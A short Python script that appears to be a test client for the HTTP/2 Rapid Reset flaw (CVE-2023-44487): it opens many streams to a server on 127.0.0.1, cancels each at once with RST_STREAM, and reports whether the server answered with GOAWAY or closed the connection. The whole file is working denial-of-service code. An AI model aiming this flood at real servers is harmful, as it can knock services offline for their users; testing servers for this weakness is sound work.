"""A rapid-reset (CVE-2023-44487) client: opens HTTP/2 streams over cleartext prior knowledge
and cancels each at once, as fast as it can, and reports what the server did.

usage: rapid_reset.py PORT STREAMS
prints "sent=N goaway=0|1 closed=0|1"
"""
import socket
import struct
import sys
from h2_wire import PREFACE, frame

port, streams = int(sys.argv[1]), int(sys.argv[2])
s = socket.create_connection(("127.0.0.1", port))
s.settimeout(5)


# HPACK: :method GET, :path /, :scheme http (static indexes 2, 4, 6), :authority literal.
block = bytes([0x82, 0x84, 0x86, 0x01, 9]) + b"localhost"
s.sendall(PREFACE + frame(0x4, 0, 0))
sent, closed = 0, False
try:
    batch = b""
    for i in range(streams):
        stream = 1 + 2 * i
        batch += frame(0x1, 0x5, stream, block)  # HEADERS, END_STREAM | END_HEADERS
        batch += frame(0x3, 0, stream, struct.pack(">I", 8))  # RST_STREAM, CANCEL
        if len(batch) > 16384:
            s.sendall(batch)
            sent = i + 1
            batch = b""
    s.sendall(batch)
    sent = streams
except OSError:
    closed = True

# Read what the server sent: look for GOAWAY (type 7) and the end of the connection.
goaway, data = False, b""
try:
    while True:
        chunk = s.recv(65536)
        if not chunk:
            closed = True
            break
        data += chunk
except OSError:
    closed = True
offset = 0
while offset + 9 <= len(data):
    length = int.from_bytes(data[offset:offset + 3], "big")
    if data[offset + 3] == 0x7:
        goaway = True
    offset += 9 + length
print(f"sent={sent} goaway={int(goaway)} closed={int(closed)}")
